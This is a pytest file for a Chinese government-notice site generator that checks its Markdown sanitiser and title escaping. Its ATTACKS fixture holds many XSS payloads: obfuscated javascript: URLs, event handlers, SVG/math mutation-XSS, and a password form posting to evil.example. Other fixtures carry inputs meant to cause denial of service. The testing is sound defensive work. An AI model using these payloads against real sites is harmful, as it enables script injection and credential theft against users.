"""Hostile content in every Markdown field and in titles: the built pages carry none of it.

Content arrives in pull requests from many hands. Each test builds a tiny site whose Markdown
fields hold the usual attack vectors, parses the built page with `html.parser` and checks tags,
attributes and URL schemes over the WHOLE page (template included), while tables, local images,
links and headings survive.
"""

from __future__ import annotations

import re
import textwrap
import xml.etree.ElementTree as ET
from html.parser import HTMLParser
from pathlib import Path

import pytest
from sitekit import doc

from gongkai.render.markup import render_markdown

SURVIVORS = """\
# 公示标题 {: #main }

正文第一段。

## 小标题

| 户主 | 金额 |
|---|---|
| 张三 | 300 |

![示意图](../../attachments/2026/shiyi.png)

[附件说明](../../attachments/2026/a.pdf) 与 [中国政府网](https://www.gov.cn/)，见[小标题](#main)。

"""

ATTACKS = """\
<script>alert('x1')</script>

<iframe src="https://evil.example/frame"></iframe>

<object data="https://evil.example/x.swf"><embed src="https://evil.example/y.swf"></object>

<style>body{color:#0ff1ce}</style>

<img src="pic.png" onerror="alert('x2')"> <p onclick="alert('x3')" onmouseover="alert('x3b')">点击</p>

[链接一](javascript:alert('x4')) [链接二](vbscript:msgbox) [链接三](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)

![图一](javascript:alert('x5')) ![图二](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+) ![图三](https://tracker.evil.example/p.gif) ![图四](//tracker.evil.example/q.gif)

<a href="JaVaScRiPt:alert('x6')">大小写</a> <a href="&#106;&#97;vascript:alert('x7')">实体</a> <a href="java&#x09;script:alert('x8')">制表符</a> <a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert('x9')">十六进制</a> <a href=" javascript:alert('x10')">空格</a>

<svg onload="alert('x11')"><script>alert('x12')</script><a xlink:href="javascript:alert('x13')">s</a></svg>

<form action="https://evil.example/steal"><input name="pw" type="password"><button formaction="javascript:alert('x14')">提交</button></form>

<meta http-equiv="refresh" content="0;url=https://evil.example/">

<base href="https://evil.example/">

<link rel="stylesheet" href="https://evil.example/x.css">

<div style="background:url(javascript:alert('x15'))">样式</div>

<details open ontoggle="alert('x16')"><summary>s</summary></details>

<img src="/\\evil.example/r.gif"> <img src="&#104;ttps://evil.example/s.gif"> <video src="https://evil.example/v.mp4" poster="https://evil.example/p.jpg"></video>

<!-- 内部备注：拟不予公开，不应发布 -->

<noscript><p title="</noscript><img src=x onerror=alert('x17')>"></noscript>

<math><mtext><table><mglyph><style><img src=x onerror=alert('x18')>
"""

HOSTILE = SURVIVORS + ATTACKS

FORBIDDEN_TAGS = {"iframe", "object", "embed", "style", "svg", "math", "base", "frame", "frameset", "applet",
                  "video", "audio", "source", "template", "noscript", "textarea", "select"}
URL_ATTRS = {"href", "src", "action", "formaction", "data", "poster", "background", "xlink:href", "srcset",
             "cite", "longdesc", "manifest", "ping"}
SAFE_SCHEMES = {"http", "https", "mailto", "tel"}


# Every payload above carries one of these; none may reach an attribute, a script or a style.
MARKERS = ("alert(", "evil.example", "msgbox", "0ff1ce", "内部备注", "formaction", "PHN")


class Collector(HTMLParser):
    """Every start tag of a page, with attributes (names lowercased, values decoded)."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.scripts: list[str] = []  # inline script text
        self.styles: list[str] = []  # <style> text
        self.comments: list[str] = []
        self._raw: str | None = None

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))
        self._raw = tag if tag in ("script", "style") else None

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_endtag(self, tag: str) -> None:
        self._raw = None

    def handle_data(self, data: str) -> None:
        if self._raw == "script" and data.strip():
            self.scripts.append(data)
        elif self._raw == "style" and data.strip():
            self.styles.append(data)

    def handle_comment(self, data: str) -> None:
        self.comments.append(data)


def parse(html: str) -> Collector:
    c = Collector()
    c.feed(html)
    c.close()
    return c


def scheme_of(url: str) -> str | None:
    """The scheme a browser would see (whitespace and control characters dropped), or None."""
    cleaned = re.sub(r"[\x00-\x20]", "", url).replace("\\", "/").lower()
    match = re.match(r"^([a-z][a-z0-9+.\-]*):", cleaned)
    return match.group(1) if match else None


def is_remote(url: str) -> bool:
    cleaned = re.sub(r"[\x00-\x20]", "", url).replace("\\", "/")
    return cleaned.startswith("//") or scheme_of(url) is not None


def page_problems(html: str) -> list[str]:
    """Everything on a page that content must never be able to produce."""
    page = parse(html)
    out = []
    if page.scripts:
        out.append(f"inline script: {page.scripts[:2]}")
    forms = 0
    for tag, attrs in page.tags:
        if tag in FORBIDDEN_TAGS:
            out.append(f"<{tag}> {attrs}")
        if tag == "script" and not (attrs.get("src") or "").startswith(("assets/", "../", "search/")):
            out.append(f"script from {attrs.get('src')!r}")
        if tag == "meta" and "http-equiv" in attrs:
            out.append(f"<meta http-equiv> {attrs}")
        if tag == "link" and is_remote(attrs.get("href") or ""):
            out.append(f"<link> to {attrs.get('href')!r}")
        if tag == "form":
            forms += 1
            if not (attrs.get("action") or "").endswith("search.html"):
                out.append(f"<form action={attrs.get('action')!r}>")
        if tag in ("input", "button") and (attrs.get("name") == "pw" or "formaction" in attrs):
            out.append(f"<{tag}> from content: {attrs}")
        for name, value in attrs.items():
            if name.startswith("on"):
                out.append(f"event attribute {name} on <{tag}>")
            if name == "style":
                out.append(f"style attribute on <{tag}>")
            if name in URL_ATTRS and value is not None:
                scheme = scheme_of(value)
                if scheme is not None and scheme not in SAFE_SCHEMES and not inline_icon(tag, attrs):
                    out.append(f"{scheme}: URL in <{tag} {name}>")
                if tag == "img" and name == "src" and is_remote(value):
                    out.append(f"remote image {value!r}")
    if forms > 2:
        out.append(f"{forms} forms")
    if "evil.example" in html:
        out.append("a URL of evil.example survived")
    if "内部备注" in html:
        out.append("an HTML comment was published")
    return out


def inline_icon(tag: str, attrs: dict) -> bool:  # type: ignore[type-arg]
    """The self-contained 404 page's own icon (templates/404.html): an SVG image, never script."""
    return (tag == "link" and "icon" in (attrs.get("rel") or "").split()
            and (attrs.get("href") or "").startswith("data:image/svg+xml,"))


def new_problems(html: str, baseline: str) -> list[str]:
    """page_problems not already present on a benign page of the same template."""
    known = set(page_problems(baseline))
    return [p for p in page_problems(html) if p not in known]


def content_problems(html: str) -> list[str]:
    """Traces of the payloads in anything a browser executes or fetches (any template)."""
    page = parse(html)
    out = []
    executable = [*page.scripts, *page.styles, *page.comments]
    for tag, attrs in page.tags:
        for name, value in attrs.items():
            if name.startswith("on") or name == "style":
                executable.append(f"{tag}.{name}={value}")
            if name in URL_ATTRS and value is not None:
                scheme = scheme_of(value)
                if scheme is not None and scheme not in SAFE_SCHEMES and not inline_icon(tag, attrs):
                    out.append(f"{scheme}: URL in <{tag} {name}>")
                if name != "href" and is_remote(value) and "evil.example" in value:
                    out.append(f"<{tag} {name}> loads {value!r}")  # a relative href holding text is inert
    for text in executable:
        for marker in MARKERS:
            if marker in text:
                out.append(f"{marker!r} in {text[:120]!r}")
    return out


def assert_survivors(html: str) -> None:
    page = parse(html)
    tags = [t for t, _ in page.tags]
    assert "table" in tags and "td" in tags and "张三" in html
    assert any(t == "h2" and a.get("id") == "sec-main" for t, a in page.tags), "heading id (prefixed) lost"
    assert "小标题" in html
    assert any(t == "img" and a.get("src") == "../../attachments/2026/shiyi.png" for t, a in page.tags)
    assert any(t == "a" and a.get("href") == "https://www.gov.cn/" for t, a in page.tags)
    assert any(t == "a" and a.get("href") == "../../attachments/2026/a.pdf" for t, a in page.tags)
    assert any(t == "a" and a.get("href") == "#sec-main" for t, a in page.tags)
    ids = [a.get("id") for _, a in page.tags if a.get("id")]
    assert ids.count("main") == 1, "content reused the template's id=main"


def block(text: str, indent: int = 2) -> str:
    """A YAML literal block scalar holding `text`."""
    return "|\n" + textwrap.indent(text, " " * indent)


def read(site: Path, rel: str) -> str:
    return (site / rel).read_text(encoding="utf-8")


def all_problems(site: Path) -> dict[str, list[str]]:
    """content_problems for every HTML file of a built site (nothing may slip in anywhere)."""
    found = {}
    for f in sorted(site.rglob("*.html")):
        problems = content_problems(f.read_text(encoding="utf-8"))
        if problems:
            found[f.relative_to(site).as_posix()] = problems
    return found


# ---- unit level: the sanitiser itself ---------------------------------------------------------


def test_sanitiser_output_has_no_attack_and_keeps_notice_markup() -> None:
    html = render_markdown(HOSTILE)
    assert page_problems(html) == []
    # survivors (as a fragment: the document page is two levels deep)
    assert "<table>" in html and "<td>张三</td>" in html
    assert '<h2 id="sec-main">公示标题</h2>' in html
    assert '<img alt="示意图" src="../../attachments/2026/shiyi.png">' in html


@pytest.mark.parametrize("url", [
    "https://tracker.example/p.gif", "//tracker.example/p.gif", "/\\tracker.example/p.gif",
    " https://tracker.example/p.gif", "ht&#9;tps://tracker.example/p.gif", "&#x0A;https://tracker.example/p.gif", "HTTPS://TRACKER.EXAMPLE/P.GIF",
])
def test_remote_images_are_dropped_local_ones_kept(url: str) -> None:
    html = render_markdown(f'<img src="{url}" alt="x"> ![本地](附件/图 1.png)')
    assert "tracker" not in html.lower()
    assert 'src="附件/图 1.png"' in html


def test_links_to_other_sites_stay_but_cannot_run_script() -> None:
    html = render_markdown("[政府网](https://www.gov.cn/) [邮件](mailto:a@b.cn) [电话](tel:0773-4800000) [坏](javascript:x)")
    assert 'href="https://www.gov.cn/"' in html and 'href="mailto:a@b.cn"' in html and 'href="tel:0773-4800000"' in html
    assert "javascript" not in html
    assert html.count('rel="noopener noreferrer"') == 4


# ---- whole pages: every Markdown field of every content kind ----------------------------------


def test_document_body_is_sanitised_on_the_built_page(built) -> None:
    hostile = doc("关于低保对象的公示", body=HOSTILE, kind="公示", published="2026-11-20", valid_until="2026-12-20")
    site, result = built({"documents/2026/hostile.md": hostile})
    assert result.ok, [d.text() for d in result.diagnostics.errors]
    html = read(site, "documents/2026/hostile.html")
    assert new_problems(html, read(site, "documents/2026/dibao.html")) == []
    assert content_problems(html) == []
    assert_survivors(html)
    assert all_problems(site) == {}
    printed = [f for f in site.rglob("*.html") if "print" in f.parts and "hostile" in f.name]
    for f in printed:  # the notice-board print version (if the site makes one) carries the body too
        assert "张三" in f.read_text(encoding="utf-8"), f


def test_interpretation_answers_are_sanitised(built) -> None:
    interp = doc("《低保实施办法》政策解读", kind="解读", interprets="2026/dibao", form="简明问答",
                 qa="\n  - q: 谁可以申请？\n    a: " + block(HOSTILE, 6))
    site, result = built({"documents/2026/jd.md": interp})
    assert result.ok, [d.text() for d in result.diagnostics.errors]
    html = read(site, "documents/2026/jd.html")
    assert "问：谁可以申请？" in html
    assert new_problems(html, read(site, "documents/2026/dibao.html")) == []
    assert content_problems(html) == []
    assert_survivors(html)


def test_consultation_body_and_feedback_are_sanitised(built) -> None:
    text = (
        "---\ntitle: 关于调整低保标准的征求意见\nscope: 全镇村民\nmethods: [征集意见]\n"
        "channels: [电话 0773-4800000]\nopens: 2026-01-01\ncloses: 2026-01-31\npublished: 2026-01-01\n"
        "feedback: " + block(HOSTILE.replace("../../", "../")) + "feedback_published: 2026-02-10\n---\n"
        + HOSTILE.replace("../../", "../")
    )
    benign = text.split("feedback:")[0] + "---\n说明。\n"
    site, result = built({"consultations/dibao.md": text, "consultations/benign.md": benign})
    assert result.ok, [d.text() for d in result.diagnostics.errors]
    html = read(site, "consultations/dibao.html")
    assert new_problems(html, read(site, "consultations/benign.html")) == []
    assert content_problems(html) == []
    assert all_problems(site) == {}
    page = parse(html)
    assert sum(1 for t, a in page.tags if t == "img" and a.get("src") == "../attachments/2026/shiyi.png") == 2
    assert sum(1 for t, _ in page.tags if t == "table") >= 3  # meta table + two bodies
    assert html.count("张三") == 2


LISTS = """\
title: 永岁镇公共服务事项清单
kind: 公共服务事项清单
entries:
  - code: GG-0001
    name: 最低生活保障申请
    category: 公共服务
    department: 民政办
    time_limit: 20个工作日
"""


def guide(conditions: str, title: str = "最低生活保障申请") -> str:
    return (
        f"title: {title}\nentry: GG-0001\nitem: shjz-guide\ndepartment: 民政办\ntime_limit: 20个工作日\n"
        f"conditions: {block(conditions)}review_standard: {block(conditions)}"
        "materials:\n  - 户口簿\nupdated: 2026-03-01\n"
    )


def test_guide_conditions_are_sanitised(built) -> None:
    body = HOSTILE.replace("../../", "../")
    site, result = built({"lists/services.yaml": LISTS, "guides/dibao.yaml": guide(body),
                          "guides/benign.yaml": guide("条件。\n", title="临时救助申请")})
    assert result.ok, [d.text() for d in result.diagnostics.errors]
    html = read(site, "guides/dibao.html")
    assert new_problems(html, read(site, "guides/benign.html")) == []
    assert content_problems(html) == []
    assert all_problems(site) == {}
    assert html.count("张三") == 2 and "小标题" in html


# ---- titles and other plain fields: autoescaped ------------------------------------------------

TITLE = "<script>alert('t')</script><img src=x onerror=alert(1)>关于“低保”&公示"


def test_titles_are_escaped_everywhere(built) -> None:
    q = TITLE.replace("'", "''")
    consult = (
        f"---\ntitle: '{q}'\nscope: '<b>全镇</b>'\nmethods: [征集意见]\nchannels: ['<i>电话</i>']\n"
        "opens: 2026-01-01\ncloses: 2026-01-31\npublished: 2026-01-01\n---\n说明。\n"
    )
    site, result = built({
        "documents/2026/dibao.md": doc(f"'{q}'", issuer="'<script>x()</script>民政办'", keywords="['<b>低保</b>']"),
        "consultations/c.md": consult,
        "lists/services.yaml": LISTS,
        "guides/g.yaml": guide("条件。\n", title=f"'{q}'"),
    })
    assert result.ok, [d.text() for d in result.diagnostics.errors]
    escaped = "&lt;script&gt;alert(&#39;t&#39;)&lt;/script&gt;"
    for rel in ("documents/2026/dibao.html", "index.html", "documents/index.html", "consultations/c.html",
                "consultations/index.html", "guides/g.html", "guides/index.html", "items/shjz-dibao.html"):
        html = read(site, rel)
        assert escaped in html, f"{rel}: title not escaped"
        assert content_problems(html) == [], rel
    doc_page = read(site, "documents/2026/dibao.html")
    assert "<title>&lt;script&gt;" in doc_page and "&lt;b&gt;低保&lt;/b&gt;" in doc_page
    assert all_problems(site) == {}
    for feed in [site / "feed.xml", *sorted((site / "feeds").glob("*.xml"))]:
        tree = ET.fromstring(feed.read_bytes())  # still well-formed XML
        titles = [e.text for e in tree.iter("{http://www.w3.org/2005/Atom}title")]
        if feed.name == "feed.xml":
            assert TITLE in titles  # the text itself, escaped in the XML


def test_heading_ids_cannot_collide_with_the_template(built) -> None:
    site, result = built({"documents/2026/dibao.md": doc(body="# 一 {: #main }\n\n## 二 {: #q-top }\n\n正文。\n")})
    assert result.ok
    page = parse(read(site, "documents/2026/dibao.html"))
    ids = [a["id"] for _, a in page.tags if a.get("id")]
    assert ids.count("main") == 1 and ids.count("q-top") == 1
    assert "sec-main" in ids and "sec-q-top" in ids


# ---- inputs on which Markdown or the sanitiser used to take minutes or crash -------------------

PATHOLOGICAL_BODIES = {
    "20 KB of [ (took 85 s)": "[" * 20_000,
    "unclosed links (quadratic)": "[a](" * 5_000,
    "unclosed images": "![" * 6_000,
    "50,000 unclosed <div> (sanitiser quadratic)": "<div>" * 50_000,
    "unclosed tags": "<a " * 12_000,
    "12,000 heading lines in one block (13 s)": "标题\n=\n" * 12_000,
    "ATX headings without blank lines": "# x\n" * 12_000,
    "setext underlines / rules (46 s)": "x\n---\n" * 12_000,
    "deep definition list (RecursionError)": "术语\n: 定义\n" * 3_000,
    "list nested 500 deep (RecursionError)": "".join("  " * i + "- x\n" for i in range(500)),
}


@pytest.mark.parametrize("name", list(PATHOLOGICAL_BODIES))
def test_pathological_bodies_render_quickly_and_safely(name: str) -> None:
    import time

    body = PATHOLOGICAL_BODIES[name] + "\n\n<script>alert('p')</script><!-- 内部备注 -->\n"
    start = time.perf_counter()
    html = render_markdown(body)
    assert time.perf_counter() - start < 5, f"{name}: {time.perf_counter() - start:.1f} s"
    assert page_problems(html) == [] and content_problems(html) == []
    assert "<script" not in html


def test_pathological_body_keeps_its_text() -> None:
    html = render_markdown("[" * 1_500 + " 低保名单\n\n第二段 <b>粗</b>\n")
    assert html.startswith("<p>[[[") and "低保名单" in html and "第二段 &lt;b&gt;粗&lt;/b&gt;" in html


def test_large_ordinary_notices_still_render_as_markdown() -> None:
    table = "| 户主 | 金额 |\n|---|---|\n" + "".join(f"| 张{i} | {i} |\n" for i in range(5_000))
    links = "".join(f"- [附件{i}](../../attachments/{i}.pdf)\n" for i in range(300))
    pasted = "<table>\n" + "".join(f"<tr><td>李{i}<td>{i}\n" for i in range(3_000)) + "</table>\n"
    html = render_markdown(f"# 名单\n\n{table}\n{links}\n{pasted}")
    assert html.count("<tr>") == 5_001 + 3_000
    assert html.count('<a href="../../attachments/') == 300
    assert "<h2>名单</h2>" in html
